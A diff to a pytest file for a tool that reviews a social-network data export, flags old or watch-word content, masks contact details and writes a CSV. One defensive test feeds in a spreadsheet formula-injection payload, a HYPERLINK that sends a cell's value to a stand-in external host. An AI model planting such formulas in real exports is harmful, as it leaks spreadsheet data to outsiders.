@@ -11,6 +11,7 @@ import pytest
 
 from automation.review import Options, Review, review_export
 from automation.review.mask import mask_all, mask_email, mask_phone
+from automation.review.phones import Phones
 from automation.review.synthetic import EMAIL, PHONE, build
 
 TODAY = date(2026, 11, 27)
@@ -28,6 +29,14 @@ def export(**files: str) -> bytes:
 
 def run(data: bytes, **options: object) -> Review:
     return review_export(data, Options(today=TODAY, **options))  # type: ignore[arg-type]
+
+
+def csv_text(review: Review) -> str:
+    from automation.review.flags_csv import write_csv
+
+    out = io.BytesIO()
+    write_csv(review, out)
+    return out.getvalue().decode("utf-8-sig")
 
 
 def kinds(review: Review) -> list[str]:
@@ -79,7 +88,7 @@ def test_content_older_than_the_cut_off_is_flagged_and_newer_is_not() -> None:
     rows = "".join(f"{day},{LINK}{i},\"post {i}\",,,PUBLIC\n" for i, day in
                    enumerate(["2021-11-26 10:00:00", "2021-11-28 10:00:00", "2012-01-01 00:00:00"]))
     review = run(export(Shares=POSTS + rows))
-    assert [(f.kind, f.date) for f in review.flags] == [("old", "2021-11-26T10:00:00"), ("old", "2012-01-01T00:00:00")]
+    assert [(f.kind, f.date) for f in review.flags] == [("old", "2012-01-01T00:00:00"), ("old", "2021-11-26T10:00:00")]
     assert [f.kind for f in run(export(Shares=POSTS + rows), older_than=20).flags] == []
 
 
@@ -109,20 +118,20 @@ def test_messages_are_counted_never_scanned() -> None:
     assert review.flags == [] and review.files[0].rows == 2 and review.files[0].ai_training is False
 
 
-def test_the_demo_export_has_every_kind_of_flag_newest_first_within_a_kind() -> None:
+def test_the_demo_export_has_every_kind_of_flag_old_content_oldest_first_the_rest_newest_first() -> None:
     review = run(build("complete", today=TODAY).data, watch=("Acme", "Project Falcon"))
     counts = review.flag_counts()
     assert all(counts[kind] > 0 for kind in counts), counts
     for kind in counts:
         dates = [f.date for f in review.flags if f.kind == kind and f.date]
-        assert dates == sorted(dates, reverse=True)
+        assert dates == sorted(dates, reverse=kind != "old"), kind
     assert any(f.link and "/pulse/" in f.link for f in review.flags)  # the article's link
 
 
 def test_masking_keeps_the_ends_and_hides_the_middle() -> None:
     assert mask_email("ada.lovelace@example.org") == "a…e@e….org"
     assert mask_phone("+44 20 7946 0958") == "+44 2• •••• ••58"
-    assert mask_all(f"a {EMAIL} b {PHONE} c") == "a r…e@e….org b +44 2• •••• ••58 c"
+    assert mask_all(f"a {EMAIL} b {PHONE} c", Phones()) == "a r…e@e….org b +44 2• •••• ••58 c"
 
 
 def test_a_resume_name_is_shown_in_full_but_a_field_too_long_for_a_file_name_is_cut_and_counted() -> None:
@@ -141,10 +150,8 @@ def test_the_csv_never_hands_a_spreadsheet_a_formula_from_the_export() -> None:
     = + - @ would run as a formula. Each such cell starts with an apostrophe instead."""
     import csv
 
-    from automation.review.flags_csv import flags_csv
-
     data = export(Shares=POSTS + f'2024-01-01 10:00:00,{LINK},"=HYPERLINK(""http://x.example/?""&A1,""Acme"")",,,\n'
                   + f'2024-01-02 10:00:00,{LINK},"@SUM(1+1) Acme",,,\n')
-    rows = list(csv.DictReader(io.StringIO(flags_csv(run(data, watch=("Acme",))))))
+    rows = list(csv.DictReader(io.StringIO(csv_text(run(data, watch=("Acme",))))))
     excerpts = [row["excerpt"] for row in rows if row["kind"] == "watch-word"]
     assert len(excerpts) == 2 and all(e.startswith("'") for e in excerpts), excerpts
